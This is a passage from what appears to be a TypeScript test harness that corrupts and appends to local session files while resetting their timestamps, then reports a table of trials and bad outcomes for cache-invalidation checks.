      const fd = fs.openSync(file, "r+")
      fs.writeSync(fd, Buffer.from(bytes[Math.floor(random() * bytes.length)] as string), 0, 1, Math.floor(random() * size))
      fs.closeSync(fd)
      edits++
    } else {
      const more = Synthetic.generate({ entries: 3, targetBytes: 3_000, seed: seed + 100 + step, activeFraction: 1 }).text.split("\n").slice(1).join("\n")
      fs.appendFileSync(file, random() < 0.3 ? more.slice(0, Math.floor(more.length / 2)) : more)
      appends++
    }
    // bit rot keeps the time, and so can an editor
    fs.utimesSync(file, then, then)
    await compare()
  }
  r.note =
    `${steps} steps (${edits} same-length edits, ${appends} appends, each with the time set back) on a 2 MB session and three small ones; 9 commands cached and not after each`
}

// ---------------------------------------------------------------------------------------------
// The table
// ---------------------------------------------------------------------------------------------

await toolModel?.close()

const lines = [["attack", "trials", "bad outcomes", "note"]]
for (const r of rows) {
  lines.push([r.attack, String(r.trials), Object.entries(r.bad).map(([k, v]) => `${k}: ${v}`).join(", "), r.note ?? ""])
}
const widths = lines[0]!.map((_, i) => Math.max(...lines.map((l) => l[i]!.length)))
for (const [i, l] of lines.entries()) {
  console.log(`| ${l.map((cell, k) => cell.padEnd(widths[k]!)).join(" | ")} |`)
  if (i === 0) console.log(`|${widths.map((w) => "-".repeat(w + 2)).join("|")}|`)
}
const bad = rows.reduce((n, r) => n + Object.values(r.bad).reduce((a, b) => a + b, 0), 0)
process.exitCode = bad === 0 ? 0 : 1
